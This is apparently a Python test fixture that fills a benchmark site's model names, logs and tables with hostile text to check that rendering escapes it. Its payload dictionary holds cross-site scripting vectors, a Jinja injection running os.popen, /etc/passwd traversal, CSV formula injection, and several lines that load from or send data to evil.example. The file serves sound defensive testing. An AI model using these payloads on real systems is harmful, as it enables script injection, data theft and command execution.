"""A version of Court of Facts in which every text that anybody but us wrote tries to do harm."""

import hashlib
import json
import shutil
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from tests.site.fixture_names import slug
from tests.site.fixture_tables import write_manifest, write_tables

REPO = Path(__file__).parents[2]
LAST = "scripted:steadfast"
PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script that ends another": "</script><script>alert(1)</script>",
    "script of a module": '<script type="module">import("//evil.example/x.js")</script>',
    "script in any case": "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "JSON that ends its script": '{"a": "</script><script>alert(1)</script>"}',
    "event handler": "<img src=x onerror=alert(1)>",
    "handler without quotes or blanks": "<svg/onload=alert(1)>",
    "handler that ends an attribute": '"><b onmouseover="alert(1)" autofocus onfocus="alert(1)" tabindex="1">x</b>',
    "handler behind a single quote": "' autofocus onfocus='alert(1)",
    "handler behind a backtick": "` onload=alert(1) `",
    "handler of an animation": "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
    "handler of a detail": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "address that is a script": "<a href=javascript:alert(1)>x</a> javascript:alert(1)",
    "address that hides a script": "<a href=java\tscript&colon;alert(1)>x</a><a href='data:text/html,<script>1'>y",
    "frame": '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="//evil.example/x"></object><embed src="//evil.example/x">',
    "SVG": "<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x dur=1s /></svg>",
    "SVG that uses another": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>',
    "MathML": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "foreign content": '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "Jinja": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "Jinja blocks": '{% include "/etc/passwd" %}{% raw %}{# x #}{% endraw %}{% endblock %}',
    "other templates": "${7*7} <%= 7*7 %> #{7*7} [[7*7]] @(7*7) {{{x}}}",
    "Vega expression": "datum.value; toString.constructor('alert(1)')()",
    "Vega signal": '{"signal": "alert(1)", "expr": "alert(1)"}',
    "CSS": "<style>body{display:none;background:url(//evil.example/x)}</style>",
    "CSS in an attribute": '" style="position:fixed;inset:0;background:url(//evil.example/x)" class="sr',
    "CSS import": "</style><link rel=stylesheet href=//evil.example/x.css>@import '//evil.example/x';",
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    "base": '<base href="//evil.example/">',
    "form": '<form action="//evil.example/"><input name=x autofocus onfocus=alert(1)><button>Log in</button></form>',
    "unclosed tags": "<div><table><td><b><i><a href='#x'><select><option>",
    "tags that close ours": "</bdi></td></tr></table></section></main></body></html><h1>Owned</h1>",
    "text that swallows": "<plaintext><textarea><title><noscript><xmp><template>",
    "unclosed comment": "<!-- everything after this --!> <!-",
    "CDATA and a processing instruction": "]]> <![CDATA[ x <?php echo 1 ?> <!DOCTYPE html>",
    "entities": "&lt;b&gt; &amp;amp; &#13;&#0;&#x202e; &nbsp &notit;",
    "null byte": "nul\x00l <scr\x00ipt>alert(1)</scr\x00ipt>",
    "controls": "\x01\x08\x0b\x0c\x1b[31mred\x7f\x85\x9b",
    "bidi controls": "\u202egnp.exe\u202c \u2066\u2067x\u2069 \u061c\u200f",
    "zero width": "a\u200bd\u200cm\u200di\u2060n\ufeff \u00ad\u180e",
    "combining flood": "Z" + "\u0300\u0336\u0489" * 400 + "algo",
    "long word": "W" * 3000,
    "CSV formula": '=HYPERLINK("//evil.example/?"&A1,"x")',
    "CSV command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Markdown": '# x\n[x](javascript:alert(1)) ![x](//evil.example/x.png) `x` **x** <https://evil.example>\n--8<-- "x"',
    "path": "../../../../etc/passwd",
    "path of another system": "..\\..\\CON",
    "right to left": "مودل שלום-7 (نص)",
    "look-alikes": "сourt-gрt-4 ＜script＞alert(1)＜/script＞",
    "noncharacters": "\ufffe\uffff\U0001fffe end",
}
"""What each does, and the text; every one stands in names, replies, prompts, facts, errors and what served it."""

# Names that differ only by what a disk, a reader or a system may not tell apart.
LOOK_ALIKE = [
    "Model-A",
    "model-a",
    "model_a",
    "model a",
    "modél-a",
    "mode\u0301l-a",
    "CON",
    "con",
    ".",
    "index",
    "a/b",
    "a__b",
]


def make_hostile(root: Path, texts: Sequence[str]) -> None:
    """Write court/v3 into `root`: for each text a model of that name, with one duel full of that text."""
    source, folder = REPO / "runs/court/v3", root / "runs/court/v3"
    (folder / "prompts").mkdir(parents=True)
    for path in [source / "spec.json", source / "items.jsonl", *(source / "prompts").glob("*.txt")]:
        shutil.copy(path, folder / path.relative_to(source))
    items = [json.loads(line) for line in (folder / "items.jsonl").read_text("utf-8").splitlines()]
    models = [*texts, LAST]
    duels = [_write_log(folder, model, items[n % len(items)], model) for n, model in enumerate(texts)]
    duels.append(_write_log(folder, LAST, items[0], "x"))
    tables = root / "tables/court/v3"
    tables.mkdir(parents=True)
    facts = [{"fact": item["fact"]} for item in items]
    write_tables(root, folder, tables, "v3", models, facts, duels, hashlib.sha256(b"").hexdigest())
    # The tables' one finding speaks of a model that is not here.
    write_manifest(root, "court", "v3")


def _write_log(folder: Path, model: str, item: dict[str, str], text: str) -> dict[str, Any]:
    run, attacker = "hostile", LAST if model != LAST else "x"
    lines: list[dict[str, Any]] = []

    def write(event: str, **fields: Any) -> None:
        seq = len(lines)
        head = {
            "v": 2,
            "run": run,
            "seq": seq,
            "at": f"2026-12-01T10:00:{seq:02}.000Z",
            "prev": "0" * 64,
            "event": event,
        }
        lines.append(head | fields)

    write(
        "start",
        benchmark="court",
        version="v3",
        model=model,
        kind="model",
        route=text,
        settings={"stop": text},
        source={"kind": "imported", "name": text, "sha256": text, "runner": text},
        attackers=[attacker],
        facts=[{"fact": item["fact"], "at": text} | dict.fromkeys(("question", "truth", "lie", "source"), text)],
        repeats=1,
    )
    place = {"phase": "main", "round": 0, "attacker": attacker, "fact": item["fact"], "repeat": 0}
    for turn, (role, who) in enumerate((("defender", model), ("attacker", attacker), ("defender", model))):
        asked = {**place, "turn": turn, "attempt": 2, "role": role, "model": who, "usage": None, "cost": "unpriced"}
        write("failure", **asked | {"attempt": 1}, kind=text, message=text, latency_ms=1)
        said = {"system": text, "user": text, "text": text, "served": text, "provider": text, "fingerprint": text}
        write("call", **asked, **said, finish="stop", latency_ms=1, settings={})
    write("finish", lines=len(lines), duels=1)
    path = folder / "logs" / slug(model) / f"{run}.jsonl"
    path.parent.mkdir(parents=True)
    # Escaped, so that a file can hold any of it.
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8", newline="\n")
    return {
        "run": run,
        "defender": model,
        **place,
        "state": "scored",
        "answers": [text, text],
        "hows": ["line", "line"],
        "fallbacks": [None, None],
        "verdicts": ["truth", "truth"],
        "caved": False,
        "held": True,
        "first_cave_round": None,
    }
